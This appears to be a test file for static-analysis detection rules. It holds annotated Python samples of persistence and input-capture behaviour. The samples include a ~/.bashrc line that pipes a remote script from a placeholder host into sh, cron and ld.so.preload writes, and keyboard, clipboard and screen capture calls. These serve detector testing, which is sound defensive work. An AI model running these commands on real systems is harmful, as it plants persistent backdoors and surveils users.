# ruff: noqa
# fmt: off
import os
import subprocess


def persist():
    # ruleid: any-persistence-location
    with open(os.path.expanduser("~/.bashrc"), "a") as f:
        f.write("curl -s http://x/u | sh &\n")
    # ruleid: any-persistence-location
    open("/etc/cron.d/update", "w").write("* * * * * root /tmp/u\n")
    # ruleid: any-persistence-location
    subprocess.run("(crontab -l; echo '* * * * * /tmp/u') | crontab -", shell=True)
    # ruleid: any-persistence-location
    os.system("systemctl --user enable agent.service")
    # ruleid: any-persistence-location
    open("/etc/ld.so.preload", "w").write("/tmp/hook.so\n")


def capture():
    # ruleid: any-input-capture-library
    import pyperclip
    # ruleid: any-input-capture-library
    from pynput import keyboard
    # ruleid: any-input-capture-library
    from PIL import ImageGrab
    # ruleid: any-clipboard-command
    subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True)
    # ruleid: any-input-capture-library
    return root.clipboard_get()


def ordinary():
    # ok: any-persistence-location
    schedule = "*/5 * * * *"
    # ok: any-persistence-location
    profile = "user profile saved"
    # ok: any-input-capture-library
    from PIL import Image
    # ok: any-clipboard-command
    label = "Copy to clipboard"
    return schedule, profile, Image, label
